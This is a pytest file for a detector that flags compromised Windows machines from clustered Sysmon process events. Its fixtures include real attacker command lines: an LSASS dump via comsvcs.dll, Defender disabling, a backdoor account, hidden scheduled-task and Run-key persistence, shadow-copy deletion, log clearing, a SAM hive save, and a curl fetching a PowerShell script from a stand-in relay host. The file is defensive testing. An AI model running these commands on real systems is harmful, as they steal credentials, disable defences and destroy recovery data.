"""Machines that their own records give away: deeds of several kinds close together, never one alone, never a habit."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import msgspec
import pytest

from keii.data import load
from keii.lake.store import Lake
from keii.model import Infection
from keii.trace import TraceSettings, trace
from keii.trace.clocks import apply_clocks
from keii.trace.conduct import Conduct, conducts, deeds
from keii.trace.happened import steps
from tests.trace.conftest import MakeLake, read_into

SYSMON = {"channel": "Microsoft-Windows-Sysmon/Operational", "provider": "Microsoft-Windows-Sysmon", "event_id": 1}
BEGAN = dt.datetime(2024, 2, 5, 3, 0, tzinfo=dt.UTC)
DUMP = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\out.bin full"
OFF = "powershell Set-MpPreference -DisableRealtimeMonitoring $true"
USER = "net user helper Passw0rd1 /add"
TASK = r'schtasks /create /tn upd /tr "powershell -w hidden -file C:\Users\Public\u.ps1" /sc daily'


def _ran(command: str, minutes: float, host: str = "pc1", **more: Any) -> dict[str, Any]:
    at = (BEGAN + dt.timedelta(minutes=minutes)).isoformat()
    row = {
        "CommandLine": command,
        "Image": r"C:\Windows\System32\cmd.exe",
        "User": r"EX\someone",
        "ParentProcessGuid": "g1",
    }
    return {**SYSMON, "host": f"{host}.corp.example", "occurred": at, **row, **more}


def _told(make_lake: MakeLake, rows: list[dict[str, Any]]) -> tuple[Conduct, ...]:
    connection = make_lake(windows=rows)
    apply_clocks(connection, ())
    return conducts(connection, deeds(connection))


def test_three_kinds_within_a_day_tell_a_machine(make_lake: MakeLake) -> None:
    (one,) = _told(make_lake, [_ran(DUMP, 0), _ran(OFF, 5), _ran(USER, 300), _ran("notepad.exe", 301)])
    assert (one.machine, one.kinds) == ("PC1", ("lsass-dump", "protection-off", "account"))
    assert [deed.locator.record for deed in one.deeds] == [1, 2, 3]


@pytest.mark.parametrize(
    "rows",
    [
        [_ran(DUMP, 0), _ran(DUMP, 1), _ran(DUMP, 2)],  # one kind only
        [_ran(USER, 0), _ran(TASK, 1), _ran(r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b", 2)],  # one tactic
        [_ran(DUMP, 0), _ran(OFF, 60 * 25), _ran(USER, 60 * 50)],  # too far from each other
        [_ran(DUMP, 0, "pc1"), _ran(OFF, 1, "pc2"), _ran(USER, 2, "pc3")],  # three machines
    ],
)  # fmt: skip
def test_less_than_that_tells_nothing(make_lake: MakeLake, rows: list[dict[str, Any]]) -> None:
    assert _told(make_lake, rows) == ()


def test_what_is_rolled_out_to_many_machines_does_not_count(make_lake: MakeLake) -> None:
    fleet = [_ran(command, at, f"pc{n}") for n in range(6) for at, command in enumerate((OFF, USER, TASK))]
    assert _told(make_lake, fleet) == ()


def test_what_does_harm_counts_on_however_many_machines(make_lake: MakeLake) -> None:
    harm = (DUMP, "vssadmin delete shadows /all /quiet", "wevtutil cl Security", "net stop sense")
    rows = [_ran(command, at, f"pc{n}") for n in range(6) for at, command in enumerate(harm)]
    assert {one.machine for one in _told(make_lake, rows)} == set()  # two kinds: what is left is too little
    rows += [_ran(r"reg save hklm\sam C:\s", 9, f"pc{n}") for n in range(6)]
    assert {one.machine for one in _told(make_lake, rows)} == {f"PC{n}" for n in range(6)}


def test_what_a_machine_did_for_weeks_is_its_habit(make_lake: MakeLake) -> None:
    day = 24 * 60
    before = [_ran(OFF, n * 3 * day) for n in range(7)]
    last = 21 * day
    assert _told(make_lake, [*before, _ran(DUMP, last), _ran(OFF, last + 1), _ran(USER, last + 2)]) == ()
    assert _told(make_lake, [_ran(DUMP, last), _ran(OFF, last + 1), _ran(USER, last + 2)]) != ()


def test_a_survey_is_four_different_questions(make_lake: MakeLake) -> None:
    asked = ["whoami", "systeminfo", "ipconfig /all", "net user"]
    connection = make_lake(
        windows=[_ran(command, at) for at, command in enumerate(asked)] + [_ran("whoami", 99, "pc2")] * 5
    )
    apply_clocks(connection, ())
    assert [(deed.machine, deed.kind, deed.what) for deed in deeds(connection)] == [("PC1", "survey", "net user")]


def test_commands_of_the_same_parent_name_the_servers(make_lake: MakeLake) -> None:
    rows = [
        _ran(DUMP, 0), _ran(OFF, 1), _ran("curl -s http://updates.relay-node.example:8080/a.ps1 -o C:\\Temp\\a.ps1", 2),
        _ran("nslookup www.google.com", 3), _ran("curl https://other.example/", 4, ParentProcessGuid="g2"), _ran(USER, 5),
    ]  # fmt: skip
    (one,) = _told(make_lake, rows)
    assert one.named == ("updates.relay-node.example",)


def test_hostile_text_is_bounded(make_lake: MakeLake) -> None:
    rows = [
        _ran("powershell " + "-e " * 200_000, 0),
        _ran("\x00\u202e" * 5000, 1),
        _ran("a" * 1_000_000 + " sekurlsa::", 2),
    ]
    assert _told(make_lake, rows) == ()


def test_an_event_id_of_another_provider_is_no_step(make_lake: MakeLake) -> None:
    other = {
        "provider": "Microsoft-Windows-TerminalServices-LocalSessionManager",
        "channel": "Operational",
        "event_id": 21,
    }
    rows = [_ran(DUMP, 0), _ran(OFF, 5), _ran(USER, 9), {**_ran("", 6), **other}]
    connection = make_lake(windows=rows)
    apply_clocks(connection, ())
    found = steps(connection, [Infection(host="PC1", first=BEGAN.isoformat())])
    assert [step.kind for step in found] == []


def test_every_kind_has_its_words_and_its_technique() -> None:
    named = load("names")["deeds"]
    kinds = [*load("trace/conduct")["kinds"], *(spec["kind"] for spec in load("trace/steps"))]
    assert [kind for kind in kinds if set(named.get(kind, {})) != {"en", "ja"}] == []
    assert all(spec["technique"].startswith("T1") for spec in load("trace/conduct")["kinds"].values())


def test_a_machine_on_which_tools_were_run_one_after_another(shelf: Path, tmp_path: Path) -> None:
    truth = msgspec.json.decode((shelf / "evtx/aptsimulator-w10.truth.json").read_bytes())
    read_into(tmp_path, [shelf / "evtx/aptsimulator-w10.tar.xz"])
    found = trace(Lake.of_folder(tmp_path), (), TraceSettings())
    (one,) = found.infections
    assert (one.host, one.how) == (truth["host"][0], "conduct")
    assert set(one.destinations) == set(truth["c2_names"])
    first, last = truth["attack_window"]
    assert first[:19] <= (one.first or "")[:19] <= (one.last or "")[:19] <= last[:19]
    assert {"lsass-dump", "protection-off", "sticky-keys", "masquerade", "account"} <= {
        step.kind for step in found.steps
    }
